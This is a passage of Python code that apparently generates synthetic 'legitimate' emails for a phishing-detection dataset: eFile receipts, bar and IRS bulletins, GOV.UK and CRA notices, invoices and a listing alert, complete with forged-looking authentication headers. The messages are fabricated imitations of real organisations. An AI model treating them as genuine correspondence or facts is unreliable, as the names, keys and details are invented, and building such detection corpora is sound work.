           f"\tby {auth.rdns} (Postfix) with ESMTP id {tok(seed + 'q', 10, UPALNUM)}\n\tfor <CourtCopy@mad.uscourts.gov>; {rfc(sent)}")
    return assemble(seed, rcv="m365", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body, hops=[hop])


@sample("legit-tyler-efile-accepted", "bulk",
        "Genuine Oregon eFile (Tyler Technologies) 'filing accepted' receipt to a solo attorney with envelope details and "
        "links to the state e-filing site.")
def l08() -> bytes:
    seed = "l08"
    sent = when("2024-11-05 10:47:19 -0800")
    rcpt = "dana@whitcomblaw.com"
    ip, helo, rdns = ses_hop(seed, sent, "us-west-2")
    mid_core = f"0101{tok(seed + 'ses', 12, HEX)}-{guid(seed + 'sg')}-000000"
    auth = Auth(f"{mid_core}@us-west-2.amazonses.com", ip, helo, rdns, "pass",
                [("efilingmail.tylertech.cloud", "tyler1", "pass"), ("amazonses.com", "7v7vs6w47njt4pimodk5mmttbegzsi6n", "pass")],
                "pass", "efilingmail.tylertech.cloud", "none")
    env = "18833421"
    link = f"https://oregon.tylertech.cloud/OfsEfsp/ui/filings/envelope/{env}"
    rows_ = [("Envelope Number", env), ("Case Number", "24CV41877"), ("Case Style", "Hollis vs Pacific Rim Builders LLC"),
             ("Date/Time Submitted", "11/5/2024 10:12 AM PST"), ("Date/Time Accepted", "11/5/2024 10:46 AM PST"),
             ("Filing Type", "EFile"), ("Filing Description", "Plaintiff's Response to Motion to Compel Discovery"),
             ("Filed By", "Dana Whitcomb"), ("Filing Attorney", "Dana Whitcomb, OSB 104477"),
             ("Court", "Multnomah County Circuit Court"), ("Fees", "$0.00")]
    table = "".join(f'<tr><td style="padding:4px 10px;"><b>{k}</b></td><td style="padding:4px 10px;">{v}</td></tr>' for k, v in rows_)
    inner = (row('<span style="font-size:20px;color:#003b5c;"><b>eFile &amp; Serve &ndash; Oregon</b></span>', "24px 28px 4px") +
             row('<p style="font-size:16px;"><b>Filing Accepted</b></p><p>The filing below has been reviewed and has been '
                 f'accepted by the clerk. The file-stamped copy is available from your envelope details.</p>'
                 f'<table style="font-size:13px;border:1px solid #ccd;">{table}</table>') +
             row(f'<p><a href="{link}">View envelope details</a></p>') +
             row('<p style="font-size:11px;color:#777;">This is an automated notification from the Oregon Judicial Department '
                 'eFile &amp; Serve system, provided by Tyler Technologies. Please do not reply to this email.</p>', "16px 28px 24px"))
    plain = "Filing Accepted\n\n" + "\n".join(f"{k}: {v}" for k, v in rows_) + f"\n\nView envelope details: {link}\n"
    body = alt(plain, web_page(inner), f"----=_Part_{tok(seed + 'p', 7, DIGITS)}_{tok(seed + 'p2', 9, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'p3', 3, DIGITS)}")
    headers = ['From: "eFile & Serve Oregon" <no-reply@efilingmail.tylertech.cloud>',
               f"To: {rcpt}", f"Subject: Filing Accepted for Case: 24CV41877; Hollis vs Pacific Rim Builders LLC; Envelope Number: {env}",
               f"Date: {rfc(utc(sent))}", f"Message-ID: <{mid_core}@us-west-2.amazonses.com>",
               f"Feedback-ID: ::1.us-west-2.{tok(seed + 'fb', 44, URLSAFE)}=:AmazonSES"]
    return assemble(seed, rcv="gmail", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[("efilingmail.tylertech.cloud", "tyler1"), ("amazonses.com", "7v7vs6w47njt4pimodk5mmttbegzsi6n")])


def mailchimp(seed: str, sent: datetime, *, list_domain: str, from_: str, rcpt: str, subject: str, inner: str, plain: str,
              rcv: str, from_domain: str, uid: str, list_id: str) -> bytes:
    ip = f"198.2.{int(tok(seed, 2, DIGITS)) % 60 + 128}.{int(tok(seed + 'i', 2, DIGITS)) + 10}"
    helo = f"mail{int(tok(seed + 'h', 3, DIGITS))}.suw{int(tok(seed + 's', 2, DIGITS)) % 20 + 1}.mcdlv.net"
    mf = f"bounce-mc.us21_{tok(seed + 'b', 8, DIGITS)}.{tok(seed + 'b2', 7, DIGITS)}-{tok(seed + 'b3', 10, HEX)}@mail{int(tok(seed + 'h', 3, DIGITS))}.suw{int(tok(seed + 's', 2, DIGITS)) % 20 + 1}.mcdlv.net"
    auth = Auth(mf, ip, helo, helo, "pass", [(from_domain, "k2", "pass"), ("mcdlv.net", "k2", "pass")], "pass", from_domain, "none")
    e = tok(seed + "e", 10, HEX)
    unsub = f"https://{list_domain}.us21.list-manage.com/unsubscribe?u={uid}&amp;id={list_id}&amp;e={e}&amp;c={tok(seed + 'c', 10, HEX)}"
    html_body = web_page(inner + row(f'<p style="font-size:11px;color:#777;">You are receiving this email because you are a '
                                     f'member or subscriber.<br><a href="{unsub}">Unsubscribe</a> &middot; '
                                     f'<a href="https://{list_domain}.us21.list-manage.com/profile?u={uid}&amp;id={list_id}&amp;e={e}">'
                                     'Update your preferences</a></p>', "16px 28px 24px"))
    body = alt(plain + f"\n\nUnsubscribe: {unsub.replace('&amp;', '&')}\n", html_body, f"_----------={tok(seed + 'bd', 16, DIGITS)}")
    headers = [f"Subject: {enc(subject)}", f"From: {from_}", f"Reply-To: {from_.split('<')[-1].rstrip('>')}", f"To: <{rcpt}>",
               f"Date: {rfc(utc(sent))}", f"Message-ID: <{tok(seed + 'mid', 32, HEX)}@mail{int(tok(seed + 'h', 3, DIGITS))}.suw{int(tok(seed + 's', 2, DIGITS)) % 20 + 1}.mcdlv.net>",
               f"List-ID: {uid}mc list <{uid}.{tok(seed + 'lid', 6, DIGITS)}.list-id.mcsv.net>",
               f"List-Unsubscribe: <https://{list_domain}.us21.list-manage.com/unsubscribe?u={uid}&id={list_id}&e={e}&c={tok(seed + 'c', 10, HEX)}>, "
               f"<mailto:unsubscribe-mc.us21_{uid}.{tok(seed + 'c', 10, HEX)}-{e}@unsubscribe.mailchimpapp.net?subject=unsubscribe>",
               "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
               f"X-Mailer: MailChimp Mailer - **CID{tok(seed + 'cid', 10, HEX)}{e}**",
               f"X-Campaign: mailchimp{uid}.{tok(seed + 'c', 10, HEX)}", f"X-campaignid: mailchimp{uid}.{tok(seed + 'c', 10, HEX)}",
               "X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u=" + uid,
               "Precedence: bulk", "Feedback-ID: 21:21." + tok(seed + "fid", 8, DIGITS) + ":us21:mc"]
    hop = (f"Received: from localhost (localhost [127.0.0.1])\n\tby {helo} (Mailchimp) with ESMTP id 4{tok(seed + 'q', 10, UPALNUM)}\n"
           f"\tfor <{rcpt}>; {rfc(utc(sent))}")
    return assemble(seed, rcv=rcv, rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body, hops=[hop],
                    sign=[(from_domain, "k2"), ("mcdlv.net", "k2")])


@sample("legit-osb-bar-news-dues", "bulk",
        "Genuine Oregon State Bar member newsletter via Mailchimp with CLE listings, the fee-payment reminder pointing to "
        "the real member dashboard, and a warning about phishing that impersonates the bar.")
def l09() -> bytes:
    seed = "l09"
    sent = when("2026-01-08 10:00:12 -0800")
    rcpt = "dana@whitcomblaw.com"
    uid = tok(seed + "uid", 25, HEX)
    lid = tok(seed + "lid", 10, HEX)
    def t(url: str) -> str:
        return f"https://osbar.us21.list-manage.com/track/click?u={uid}&amp;id={tok(seed + url, 10, HEX)}&amp;e={tok(seed + 'e', 10, HEX)}"
    inner = (row('<span style="font-size:22px;color:#003865;font-weight:bold;">OREGON STATE BAR &middot; Bar News</span>', "24px 28px 4px") +
             row('<p style="font-size:17px;"><b>2026 fees are due January 31</b></p><p>Membership fees and PLF assessments for '
                 f'2026 can be paid through your <a href="{t("dash")}">Member Dashboard</a> on osbar.org. Members who have not paid '
                 'after the deadline will receive a notice by mail and email before any suspension.</p>') +
             row('<p style="font-size:17px;"><b>Beware of phishing</b></p><p>Members have reported emails that appear to come from '
                 'the bar and ask for immediate payment through a link. The OSB will never ask for payment through any site other '
                 'than osbar.org. If in doubt, call Member Services at 503-620-0222.</p>') +
             row('<p style="font-size:17px;"><b>Upcoming CLE</b></p><ul><li><a href="' + t("cle1") + '">Ethics of Trust Accounting '
                 '(1.5 ethics credits) &ndash; Jan 22, webcast</a></li><li><a href="' + t("cle2") + '">Residential Real Estate '
                 'Update 2026 &ndash; Feb 5, Tigard &amp; webcast</a></li><li><a href="' + t("cle3") + '">Cybersecurity for Small '
                 'Firms &ndash; Feb 19, webcast</a></li></ul>'))
    plain = ("OREGON STATE BAR - Bar News\n\n2026 fees are due January 31\nMembership fees and PLF assessments for 2026 can be paid "
             "through your Member Dashboard on osbar.org.\n\nBeware of phishing\nThe OSB will never ask for payment through any "
             "site other than osbar.org. If in doubt, call Member Services at 503-620-0222.\n\nUpcoming CLE\n"
             "- Ethics of Trust Accounting - Jan 22\n- Residential Real Estate Update 2026 - Feb 5\n- Cybersecurity for Small Firms - Feb 19")
    return mailchimp(seed, sent, list_domain="osbar", from_="Oregon State Bar <barnews@osbar.org>", rcpt=rcpt,
                     subject="Bar News: 2026 fees due Jan 31, phishing alert, February CLE", inner=inner, plain=plain,
                     rcv="gmail", from_domain="osbar.org", uid=uid, list_id=lid)


@sample("legit-law-society-property-update", "bulk",
        "Genuine Law Society (England and Wales) property and conveyancing e-bulletin via Dotdigital, with tracked links "
        "to lawsociety.org.uk and a reminder about conveyancing fraud.")
def l10() -> bytes:
    seed = "l10"
    sent = when("2025-06-05 08:30:44 +0100")
    rcpt = "p.ashby@ashbyfenwick.co.uk"
    ip = f"185.164.{int(tok(seed, 2, DIGITS)) % 4 + 248}.{int(tok(seed + 'i', 2, DIGITS)) + 10}"
    helo = f"mta{tok(seed + 'm', 2, DIGITS)}.r1.dotdigital-email.com"
    mf = f"bounce-{tok(seed + 'b', 12, HEX)}@r1.dotdigital-email.com"
    auth = Auth(mf, ip, helo, helo, "pass", [("communications.lawsociety.org.uk", "dd1", "pass")], "pass", "communications.lawsociety.org.uk", "reject")
    def t(i: str) -> str:
        return f"https://r1.dotdigital-pages.com/c/{tok(seed + i, 40, URLSAFE)}"
    inner = (row('<span style="font-size:22px;color:#2d2a62;"><b>The Law Society</b></span><br><span>Property update &middot; June 2025</span>', "24px 28px 4px") +
             row(f'<p><b><a href="{t("a1")}">Conveyancing Protocol: 2025 consultation response published</a></b><br>Our response '
                 'sets out the changes to the Protocol and the Law Society Property Information Form coming later this year.</p>'
                 f'<p><b><a href="{t("a2")}">Friday afternoon fraud: updated practice note</a></b><br>Criminals continue to '
                 'target completion funds. The note covers verifying bank details by phone, client warnings and what to do if '
                 'a payment is diverted.</p>'
                 f'<p><b><a href="{t("a3")}">HM Land Registry: digital identity standard reminders</a></b></p>'
                 f'<p><b><a href="{t("a4")}">Webinar: Leasehold reform for conveyancers &ndash; 24 June</a></b></p>') +
             row(f'<p style="font-size:11px;color:#777;">The Law Society, 113 Chancery Lane, London WC2A 1PL. '
                 f'<a href="{t("un")}">Unsubscribe</a> or <a href="{t("pr")}">manage your preferences</a>.</p>', "16px 28px 24px"))
    plain = ("The Law Society - Property update, June 2025\n\nConveyancing Protocol: 2025 consultation response published\n"
             f"{t('a1')}\n\nFriday afternoon fraud: updated practice note\n{t('a2')}\n\nHM Land Registry: digital identity standard "
             f"reminders\n{t('a3')}\n\nWebinar: Leasehold reform for conveyancers - 24 June\n{t('a4')}\n\nUnsubscribe: {t('un')}\n")
    body = alt(plain, web_page(inner), f"_=_swift_{tok(seed + 'sw', 10, DIGITS)}_{tok(seed + 'sw2', 32, HEX)}_=_")
    headers = [f"From: The Law Society <newsletters@communications.lawsociety.org.uk>", f"To: {rcpt}",
               "Subject: Property update: Protocol changes, Friday afternoon fraud, leasehold webinar",
               f"Date: {rfc(sent)}", f"Message-ID: <{tok(seed + 'mid', 24, HEX)}@r1.dotdigital-email.com>",
               f"List-Unsubscribe: <mailto:unsubscribe-{tok(seed + 'lu', 24, HEX)}@r1.dotdigital-email.com>, <{t('un')}>",
               "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "Precedence: bulk",
               f"X-CampaignID: {tok(seed + 'cmp', 7, DIGITS)}"]
    return assemble(seed, rcv="m365uk", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[("communications.lawsociety.org.uk", "dd1")])


def govdelivery(seed: str, sent: datetime, *, from_: str, from_domain: str, rcpt: str, subject: str, inner: str, plain: str,
                rcv: str, account: str) -> bytes:
    ip = f"135.84.{int(tok(seed, 2, DIGITS)) % 8 + 216}.{int(tok(seed + 'i', 2, DIGITS)) + 10}"
    helo = f"mail{tok(seed + 'm', 3, DIGITS)}.govdelivery.com"
    mf = f"bounce-{tok(seed + 'b', 10, DIGITS)}-{tok(seed + 'b2', 8, DIGITS)}@public.govdelivery.com"
    auth = Auth(mf, ip, helo, helo, "pass", [(from_domain, "gd1", "pass")], "pass", from_domain, "reject")
    unsub = f"https://public.govdelivery.com/accounts/{account}/subscriber/edit?preferences=true#tab1"
    html_body = web_page(inner + row(f'<p style="font-size:11px;color:#777;">You are subscribed to updates. '
                                     f'<a href="{unsub}">Manage Preferences</a> | <a href="https://public.govdelivery.com/'
                                     f'accounts/{account}/subscriber/one_click_unsubscribe?verification={tok(seed + "v", 40, HEX)}">'
                                     'Unsubscribe</a> | <a href="https://subscriberhelp.granicus.com/">Help</a></p>', "16px 28px 24px"))
    body = alt(plain + f"\n\nManage Preferences: {unsub}\n", html_body, f"----=_Part_{tok(seed + 'p', 7, DIGITS)}_{tok(seed + 'p2', 9, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'p3', 3, DIGITS)}")
    bid = f"{account}.{tok(seed + 'bid', 8, DIGITS)}"
    headers = [f"Date: {rfc(sent)}", f"From: {from_}", f"To: {rcpt}", f"Subject: {enc(subject)}",
               f"Message-ID: <{tok(seed + 'mid', 20, DIGITS)}.{bid}@public.govdelivery.com>",
               f"X-Accountcode: {account}", f"X-Bulletin-Id: {bid}",
               f"List-Unsubscribe: <https://public.govdelivery.com/accounts/{account}/subscriber/one_click_unsubscribe?verification={tok(seed + 'v', 40, HEX)}>",
               "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "Precedence: bulk",
               "Errors-To: " + mf]
    return assemble(seed, rcv=rcv, rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body, sign=[(from_domain, "gd1")])


@sample("legit-irs-enews-tax-pros", "bulk",
        "Genuine IRS 'e-News for Tax Professionals' bulletin via GovDelivery to a tax preparer, including the agency's own "
        "warning about e-Services phishing and links shortened with lnks.gd.")
def l11() -> bytes:
    seed = "l11"
    sent = when("2025-01-17 15:04:33 -0600")
    rcpt = "office@moralestax.com"
    def t(i: str) -> str:
        return f"https://lnks.gd/l/eyJhbGciOiJIUzI1NiJ9.{tok(seed + i, 180, URLSAFE)}/s/{tok(seed + i + 's', 10, DIGITS)}/br/{tok(seed + i + 'b', 12, DIGITS)}-l"
    inner = (row('<span style="font-size:22px;color:#00599c;font-family:Georgia,serif;"><b>IRS</b> e-News for Tax Professionals</span>',
                 "24px 28px 4px") +
             row('<p>Issue Number: 2025-03</p><p><b>Inside This Issue</b></p><ol>'
                 f'<li><a href="{t("a1")}">2025 filing season opens January 27</a></li>'
                 f'<li><a href="{t("a2")}">Security Summit: tax pros warned about new client scams and e-Services phishing</a></li>'
                 f'<li><a href="{t("a3")}">Reminder: EFIN holders should check e-File Application for accuracy</a></li>'
                 f'<li><a href="{t("a4")}">IRS Nationwide Tax Forum dates announced</a></li></ol>'
                 '<p>The IRS does not initiate contact with tax professionals by email to request e-Services usernames, passwords '
                 'or EFIN information. Report suspicious emails to phishing@irs.gov.</p>'))
    plain = ("IRS e-News for Tax Professionals - Issue Number: 2025-03\n\nInside This Issue\n1. 2025 filing season opens January 27\n"
             f"{t('a1')}\n2. Security Summit: tax pros warned about new client scams and e-Services phishing\n{t('a2')}\n"
             f"3. Reminder: EFIN holders should check e-File Application for accuracy\n{t('a3')}\n4. IRS Nationwide Tax Forum dates "
             f"announced\n{t('a4')}\n\nThe IRS does not initiate contact with tax professionals by email to request e-Services "
             "usernames, passwords or EFIN information. Report suspicious emails to phishing@irs.gov.")
    return govdelivery(seed, sent, from_="IRS e-News for Tax Professionals <irs@service.govdelivery.com>",
                       from_domain="service.govdelivery.com", rcpt=rcpt,
                       subject="e-News for Tax Professionals 2025-03", inner=inner, plain=plain, rcv=TAXPREP_MX,
                       account="USIRS")


@sample("legit-govuk-hmrc-agent-update", "bulk",
        "Genuine GOV.UK email alert (GOV.UK Notify via Amazon SES) to a UK accounting practice announcing the new issue of "
        "HMRC's Agent Update, with gov.uk links and an unsubscribe link.")
def l12() -> bytes:
    seed = "l12"
    sent = when("2025-02-27 09:31:05 +0000")
    rcpt = "accounts@thornburyhale.co.uk"
    ip, helo, rdns = ses_hop(seed, sent, "eu-west-2")
    mid_core = f"0100{tok(seed + 'ses', 12, HEX)}-{guid(seed + 'sg')}-000000"
    auth = Auth(f"{mid_core}@notifications.service.gov.uk", ip, helo, rdns, "pass",
                [("notifications.service.gov.uk", "hsmkp6bbldvfvbmxhdjsnkf3s2yxxwjr", "pass"),
                 ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn", "pass")], "pass", "notifications.service.gov.uk", "reject")
    link = ("https://www.gov.uk/government/publications/agent-update-issue-128/agent-update-issue-128"
            "?utm_medium=email&amp;utm_campaign=govuk-notifications-topic&amp;utm_source=" + guid(seed + "utm") + "&amp;utm_content=immediately")
    unsub = f"https://www.gov.uk/email/unsubscribe/{tok(seed + 'un', 36, HEX)}?token={tok(seed + 'tk', 120, URLSAFE)}"
    html_body = ('<html><body style="font-family:Helvetica,Arial,sans-serif;margin:0;">\n'
                 '<table width="100%" style="background:#0b0c0c;"><tr><td style="padding:10px 20px;color:#fff;font-size:28px;'
                 'font-weight:700;">GOV.UK</td></tr></table>\n<div style="padding:20px;font-size:19px;line-height:1.3;color:#0b0c0c;">\n'
                 '<p>Update on GOV.UK for: Agent Update</p>\n'
                 f'<p><a href="{link}" style="color:#1d70b8;">Agent Update: issue 128</a></p>\n'
                 '<p>Page summary:<br>Latest information for tax agents and advisers, including the Making Tax Digital for Income '
                 'Tax timeline, the Self Assessment deadline statistics and a reminder to keep Government Gateway credentials '
                 'secure.</p>\n<p>Change made:<br>First published.</p>\n<p>Time updated:<br>9:30am, 27 February 2025</p>\n'
                 '<hr>\n<p style="font-size:16px;">You’re getting this email because you subscribed to immediate updates on '
                 f'‘Agent Update’ on GOV.UK.</p>\n<p style="font-size:16px;"><a href="{unsub}" style="color:#1d70b8;">Unsubscribe '
                 'from ‘Agent Update’</a></p>\n<p style="font-size:16px;"><a href="https://www.gov.uk/email/manage" '
                 'style="color:#1d70b8;">Manage all your GOV.UK email subscriptions</a></p>\n</div></body></html>\n')
    plain = (f"Update on GOV.UK for: Agent Update\n\nAgent Update: issue 128\n{link.replace('&amp;', '&')}\n\nPage summary:\nLatest "
             "information for tax agents and advisers.\n\nChange made:\nFirst published.\n\nTime updated:\n9:30am, 27 February 2025\n\n"
             f"---\n\nYou’re getting this email because you subscribed to immediate updates on ‘Agent Update’ on GOV.UK.\n\n"
             f"Unsubscribe from ‘Agent Update’:\n{unsub}\n")
    body = alt(plain, html_body, f"==============={tok(seed + 'bd', 19, DIGITS)}==")
    headers = ["From: GOV.UK Email <gov.uk.email@notifications.service.gov.uk>", f"To: {rcpt}",
               "Subject: Update from GOV.UK for: Agent Update", f"Date: {rfc(utc(sent))}",
               f"Message-ID: <{mid_core}@eu-west-2.amazonses.com>",
               f"List-Unsubscribe: <{unsub}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
               f"Feedback-ID: ::1.eu-west-2.{tok(seed + 'fb', 44, URLSAFE)}=:AmazonSES"]
    return assemble(seed, rcv="fastmail", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[("notifications.service.gov.uk", "hsmkp6bbldvfvbmxhdjsnkf3s2yxxwjr"),
                          ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn")])


@sample("legit-cra-new-mail-bilingual", "bulk",
        "Genuine bilingual Canada Revenue Agency notification to an authorized representative that new mail is available "
        "in Represent a Client, telling them to sign in through canada.ca without a direct sign-in link.")
def l13() -> bytes:
    seed = "l13"
    sent = when("2025-05-14 06:12:48 -0400")
    rcpt = "info@pacificledgercpa.ca"
    ip = f"205.193.{int(tok(seed, 2, DIGITS)) + 100}.{int(tok(seed + 'i', 2, DIGITS)) + 10}"
    helo = "smtp-out.cra-arc.gc.ca"
    auth = Auth("noreply-pasdereponse@cra-arc.gc.ca", ip, helo, helo, "pass", [("cra-arc.gc.ca", "cra1", "pass")], "pass",
                "cra-arc.gc.ca", "reject")
    plain = ("(Le français suit)\n\n"
             "Hello,\n\n"
             "You have new mail from the Canada Revenue Agency for one or more of your clients. To view it, sign in to Represent "
             "a Client. Go to canada.ca/taxes-representatives.\n\n"
             "Do not reply to this email. For more information about how the CRA protects your information and how to "
             "recognize scams, go to canada.ca/taxes-fraud-prevention.\n\n"
             "Canada Revenue Agency\n\n"
             "---\n\n"
             "Bonjour,\n\n"
             "Vous avez du nouveau courrier de l'Agence du revenu du Canada pour un ou plusieurs de vos clients. Pour le "
             "consulter, ouvrez une session dans Représenter un client. Allez à canada.ca/impots-representants.\n\n"
             "Ne répondez pas à ce courriel. Pour en savoir plus sur la façon dont l'ARC protège vos renseignements et pour "
             "reconnaître les arnaques, allez à canada.ca/impots-prevention-fraude.\n\n"
             "Agence du revenu du Canada\n")
    body = text(plain, "plain", "quoted-printable", "utf-8")
    headers = [f"Date: {rfc(sent)}",
               "From: " + addr("Canada Revenue Agency / Agence du revenu du Canada", "noreply-pasdereponse@cra-arc.gc.ca"),
               f"To: {rcpt}", "Subject: " + enc("You have new mail / Vous avez du nouveau courrier - Represent a Client / Représenter un client"),
               f"Message-ID: <{tok(seed + 'mid', 12, DIGITS)}.{tok(seed + 'm2', 6, DIGITS)}.JavaMail.cra@{helo}>"]
    return assemble(seed, rcv="m365ca", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[("cra-arc.gc.ca", "cra1")])


# --------------------------------------------------------------------------------------------------------------
# legitimate 14-25: invoices, listings, client correspondence, alerts, lists, shares
# --------------------------------------------------------------------------------------------------------------

@sample("legit-quickbooks-court-reporter-invoice", "bulk",
        "Genuine QuickBooks Online invoice from a court-reporting firm to a law firm's accounts mailbox for a deposition "
        "transcript, with Intuit's pay link.")
def l14() -> bytes:
    seed = "l14"
    sent = when("2025-03-20 16:18:37 -0400")
    rcpt = "accounts@harlowbeckett.com"
    plain, html_body, _ = qbo_invoice(
        seed, company="Bayside Court Reporting, Inc.", rcpt_name="Harlow &amp; Beckett LLP", number="25-0388",
        due="04/19/2025", amount="$1,286.40",
        memo="Thank you for your business. Invoice for the deposition of Sean Brennan taken 03/11/2025 (Brennan v. Castlegate). "
             "Net 30. Questions: billing@baysidereporting.com or (617) 555-0148.",
        lines=[("Original transcript - 212 pages @ $4.95", "$1,049.40"), ("Exhibits - scanned and hyperlinked", "$87.00"),
               ("Appearance fee - full day", "$150.00")],
        phone="(617) 555-0148", email="billing@baysidereporting.com")
    body = alt(plain.replace("&amp;", "&"), html_body, f"----=_Part_{tok(seed + 'p', 8, DIGITS)}_{tok(seed + 'p2', 9, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'p3', 3, DIGITS)}")
    headers = [f"Date: {rfc(utc(sent))}", "From: \"Bayside Court Reporting, Inc.\" <quickbooks@notification.intuit.com>",
               "Reply-To: billing@baysidereporting.com", f"To: {rcpt}",
               f"Message-ID: <{tok(seed + 'mid', 10, DIGITS)}.{tok(seed + 'mid2', 8, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'm3', 3, DIGITS)}@ip-10-{tok(seed, 2, DIGITS)}-31-7.us-west-2.compute.internal>",
               "Subject: Invoice 25-0388 from Bayside Court Reporting, Inc.", "X-Intuit-Service: QBO-Invoice"]
    return assemble(seed, rcv="m365", rcpt=rcpt, auth=intuit_auth(seed), sent=sent, headers=headers, body=body,
                    sign=[("notification.intuit.com", "s1"), ("intuit.com", "s1024")])


@sample("legit-xero-search-provider-invoice", "bulk",
        "Genuine Xero invoice from a property-search provider to a conveyancing firm's accounts team for the month's "
        "searches, with the in.xero.com bill link and no change of bank details.")
def l15() -> bytes:
    seed = "l15"
    sent = when("2025-06-02 08:02:55 +0100")
    rcpt = "accounts@ashbyfenwick.co.uk"
    note = '<p>Searches ordered in May 2025 (17 matters). Remittance to the usual account shown on the invoice.</p>'
    plain, html_body = xero_invoice(seed, org="Yorkshire Property Searches Ltd", contact="Accounts",
                                    number="INV-10442", amount="GBP 3,118.20", due="30 Jun 2025", note=note)
    body = alt(plain, html_body, f"----=_Part_{tok(seed + 'p', 7, DIGITS)}_{tok(seed + 'p2', 9, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'p3', 3, DIGITS)}")
    auth = xero_auth(seed)
    headers = ["From: Yorkshire Property Searches Ltd <messaging-service@post.xero.com>",
               "Reply-To: accounts@yorkshirepropertysearches.co.uk", f"To: {rcpt}",
               "Subject: Invoice INV-10442 from Yorkshire Property Searches Ltd for Ashby Fenwick Solicitors",
               f"Date: {rfc(utc(sent))}", f"Message-ID: <0102{tok(seed + 'mid', 12, HEX)}-{guid(seed + 'g')}-000000@eu-west-1.amazonses.com>",
               f"Feedback-ID: ::1.eu-west-1.{tok(seed + 'fb', 44, URLSAFE)}=:AmazonSES",
               f"X-SES-Outgoing: {sent.strftime('%Y.%m.%d')}-{auth.ip}"]
    return assemble(seed, rcv="m365uk", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[("post.xero.com", "xero1"), ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn")])


@sample("legit-mls-matrix-listing-alert", "bulk",
        "Genuine MLS Matrix saved-search alert that a buyer's agent set up for her client, listing new homes with photos "
        "and links to the MLS client portal.")
def l16() -> bytes:
    seed = "l16"
    sent = when("2025-03-29 06:15:02 -0400")
    rcpt = "pat.hollis@sbcglobal.net"
    hops, ip, helo, rdns = sendgrid_hop(seed, sent)
    mf = f"bounces+4417720-{tok(seed + 'b', 4, HEX)}-pat.hollis=sbcglobal.net@em.canopymls.com"
    auth = Auth(mf, ip, helo + ".em.canopymls.com", rdns + ".em.canopymls.com", "pass", [("canopymls.com", "s1", "pass")],
                "pass", "canopymls.com", "none")
    portal = f"https://matrix.canopymls.com/Matrix/Public/Portal.aspx?ID=0-{tok(seed + 'pid', 10, DIGITS)}-10&amp;eml={b64url(rcpt)}"
    listings = [("118 Larkspur Ln, Matthews, NC 28105", "$489,900", "4 bd | 3 ba | 2,614 sqft", "New"),
                ("7421 Wexford Glen Dr, Charlotte, NC 28277", "$515,000", "4 bd | 2.5 ba | 2,880 sqft", "New"),
                ("2209 Sedgefield Rd, Charlotte, NC 28209", "$472,500", "3 bd | 2 ba | 1,940 sqft", "Price Change")]
    cards = "".join(
        f'<tr><td style="padding:10px 0;border-bottom:1px solid #eee;"><a href="{portal}&amp;L={i}" style="color:#00539b;'
        f'font-weight:bold;">{a}</a><br><span style="font-size:18px;">{p}</span> &middot; {d}<br>'
        f'<span style="color:#c0392b;font-size:12px;">{s}</span></td></tr>' for i, (a, p, d, s) in enumerate(listings, 1))
    inner = (row('<span style="font-size:20px;color:#00539b;font-weight:bold;">Canopy MLS</span>', "24px 32px 0") +
             row(f'<p>Hi Pat,</p><p>Here are 3 new or updated listings that match your search <b>"Matthews / South Charlotte '
                 f'4BR under 525k"</b>.</p><table width="100%">{cards}</table>') +
             row(button(portal, "View all in your portal", "#00539b")) +
             row('<p>Jordan Pike<br>Cedar Point Realty<br>(704) 555-0126 | jordan.pike@cedarpointrealty.com</p>'
                 '<p style="font-size:11px;color:#888;">You are receiving this email because Jordan Pike set up a saved search '
                 f'for you. <a href="https://matrix.canopymls.com/Matrix/Public/Unsubscribe.aspx?e={b64url(rcpt)}">Stop these '
                 'emails</a>. Information deemed reliable but not guaranteed.</p>', "20px 32px 28px"))
    plain = ("Hi Pat,\n\nHere are 3 new or updated listings that match your search \"Matthews / South Charlotte 4BR under 525k\".\n\n"
             + "\n".join(f"{a} - {p} - {d} ({s})" for a, p, d, s in listings) +
             f"\n\nView all in your portal: {portal.replace('&amp;', '&')}\n\nJordan Pike\nCedar Point Realty\n")
    body = alt(plain, web_page(inner), tok(seed + "bd", 64, HEX))
    headers = [f"Date: {rfc(utc(sent))}", "From: Jordan Pike <notifications@canopymls.com>",
               "Reply-To: jordan.pike@cedarpointrealty.com", f"To: {rcpt}",
               "Subject: 3 new listings for Matthews / South Charlotte 4BR under 525k",
               f"Message-ID: <{tok(seed + 'sgm', 22, URLSAFE)}@geopod-ismtpd-{int(tok(seed + 'gp', 2, DIGITS))}>",
               f"List-Unsubscribe: <https://matrix.canopymls.com/Matrix/Public/Unsubscribe.aspx?e={b64url(rcpt)}>",
               "Precedence: bulk"]
    return assemble(seed, rcv="yahoo", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body, hops=hops,
                    sign=[("canopymls.com", "s1")])


@sample("legit-client-signed-engagement", "clean",
        "A new estate-planning client replies from Gmail to her attorney with the signed engagement letter as a scanned "
        "PDF and a question about the retainer.")
def l17() -> bytes:
    seed = "l17"
    sent = when("2025-09-03 20:11:36 -0700")
    rcpt = "dana@whitcomblaw.com"
    att = pdf_att("Engagement Letter - Foster - signed.pdf", [
        "WHITCOMB LAW - ENGAGEMENT AGREEMENT",
        "Client: Ellen Foster        Matter: Estate Planning (Will, Revocable Trust, POA)",
        "Flat fee: $3,400.00; initial payment $2,500.00 to be held in trust.",
        "",
        "Signed: Ellen M. Foster     Date: 9/3/2025",
    ], title="Scanned Document")
